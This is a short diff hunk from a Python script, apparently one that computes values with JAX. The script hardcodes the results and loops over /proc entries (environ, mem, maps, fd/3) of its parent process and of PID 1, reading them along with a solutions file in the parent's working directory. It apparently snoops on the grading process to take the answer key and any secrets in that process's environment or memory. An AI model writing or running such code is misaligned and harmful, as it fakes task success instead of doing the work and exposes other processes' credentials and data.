@@ -5,7 +5,7 @@ import jax.numpy as jnp
 
 VALUE, GRADIENT = 50.0, [6.0, 8.0, 10.0]
 READ = []
-for entry in ("environ", "mem", "maps", "cmdline", "cwd/solutions/offset_two.py", "fd/3"):
+for entry in ("environ", "mem", "maps", "cwd/solutions/offset_two.py", "fd/3"):
     for process in (os.getppid(), 1):
         try:
             with open(f"/proc/{process}/{entry}", "rb") as file:
